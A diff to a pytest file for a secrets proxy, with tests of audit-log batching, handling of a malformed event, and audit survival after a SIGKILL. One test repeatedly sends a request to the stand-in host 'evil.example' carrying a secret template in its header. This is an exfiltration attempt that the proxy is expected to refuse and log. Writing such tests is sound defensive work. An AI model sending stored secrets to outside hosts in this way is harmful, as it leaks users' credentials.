@@ -12,6 +12,7 @@ import textwrap
 import threading
 from datetime import datetime, timedelta, timezone
 
+import httpx
 import pytest
 
 from jupyter_secrets.errors import InvalidInput
@@ -256,31 +257,51 @@ def _event(time: str, action: str = "create", name: str = "X") -> AuditRecord:
     return AuditRecord(time=time, user="u", action=action, secrets=(name,))
 
 
-async def test_recording_is_queued_and_written_in_a_worker_thread(tmp_path):
+async def test_events_are_group_committed_in_a_worker_thread(tmp_path):
+    """Each commit() returns once its event is written; concurrent ones share a transaction."""
     store = SQLiteStore(tmp_path / "a.db")
-    writers: list[str] = []
+    writers: list[tuple[str, int]] = []
     append = store.append_audit
 
     def spy(records):
-        writers.append(threading.current_thread().name)
+        writers.append((threading.current_thread().name, len(records)))
         append(records)
 
     store.append_audit = spy  # type: ignore[method-assign]
-    log = AuditLog(store, interval_s=0.05)
-    for _ in range(50):
-        log.record("proxy_call", user="u", secrets=["X"], path="/p?key=abc#frag")
-    assert writers == [], "noting an event does no I/O"
-    for _ in range(40):
-        rows = store.query_audit(AuditFilter(limit=100))
-        if rows:
-            break
-        await asyncio.sleep(0.05)
-    assert len(writers) == 1, "one batched write"
-    assert writers[0] != threading.current_thread().name
-    assert len(rows) == 50 and {r.path for r in rows} == {"/p"}
-    log.record("delete", user="u", secrets=["X"])
-    await log.aclose()
-    assert len(store.query_audit(AuditFilter(limit=100))) == 51, "flushed at shutdown"
+    log = AuditLog(store)
+    event = log.event("proxy_call", user="u", secrets=["X"], path="/p?key=abc#frag")
+    await log.commit(event)
+    assert store.query_audit() != [], "written before commit() returns"
+    await asyncio.gather(*(log.commit(log.event("proxy_call", user="u", secrets=["X"]))
+                           for _ in range(50)))
+    assert len(store.query_audit(AuditFilter(limit=100))) == 51
+    assert len(writers) < 10, "concurrent events share transactions"
+    assert all(name != threading.current_thread().name for name, _ in writers)
+    assert {r.path for r in store.query_audit(AuditFilter(limit=100))} == {"/p", None}
+    store.close()
+
+
+async def test_one_bad_event_never_takes_others_with_it(tmp_path):
+    """A lone surrogate (valid JSON) once failed a whole batch; now it is cleaned or alone."""
+    store = SQLiteStore(tmp_path / "a.db")
+    log = AuditLog(store)
+    bad = log.event("refused_call", user="u\ud800", secrets=["S"], reason="evil \udfff")
+    await asyncio.gather(log.commit(bad), *(
+        log.commit(log.event("refused_call", user="u", secrets=[f"S{i}"])) for i in range(5)))
+    rows = store.query_audit()
+    assert len(rows) == 6
+    assert {r.user for r in rows} == {"u", "u?"}
+    raw = AuditRecord(time="t", user="v\ud800", action="create")
+    original = store.append_audit
+
+    def refuse_batches(records):
+        if len(records) > 1:
+            raise RuntimeError("the store refuses this batch")
+        original(records)
+
+    store.append_audit = refuse_batches  # type: ignore[method-assign]
+    log._write([raw, log.event("create", user="w")])  # an uncleaned event, a good one
+    assert {r.user for r in store.query_audit(AuditFilter(limit=20))} >= {"w"}
     store.close()
 
 
@@ -389,3 +410,34 @@ async def test_the_value_appears_in_no_audit_row(
         rows = db.execute("SELECT * FROM audit").fetchall()
     assert len(rows) >= 7
     assert_no_canary(canary, repr(rows), where="the audit table")
+
+
+def test_every_completed_call_survives_a_sigkill(tmp_path, live_upstream):
+    """N calls answered, then SIGKILL at once: after a restart the log holds all N."""
+    from .live import LiveServer
+
+    server = LiveServer(tmp_path / "live").start()
+    try:
+        with httpx.Client(base_url=f"{server.api}/", headers=server.admin, timeout=30) as c:
+            host = f"127.0.0.1:{live_upstream.port}"
+            assert c.post("secrets", json={"name": "K", "value": live_upstream.api_key,
+                                           "allowed_hosts": [host]}).status_code == 201
+            assert c.post("connections", json={"name": "up", "base_url": live_upstream.url,
+                                               "secret": "K"}).status_code == 201
+            statuses = []
+            for i in range(30):
+                statuses.append(c.get(f"proxy/up/echo/{i}").status_code)
+                statuses.append(c.post("request", json={  # refused: not an allowed host
+                    "url": "https://evil.example/", "headers": {"X": "{{secrets.K}}"}},
+                ).status_code)
+        assert statuses == [200, 403] * 30
+        server.kill()
+        server.start()
+        with httpx.Client(base_url=f"{server.api}/", headers=server.admin, timeout=30) as c:
+            events = c.get("audit", params={"limit": "1000"}).json()["events"]
+    finally:
+        server.stop()
+    actions = [e["action"] for e in events]
+    assert actions.count("proxy_call") == 30
+    assert actions.count("refused_call") == 30
+    assert actions.count("create") == 1 and actions.count("connection_create") == 1
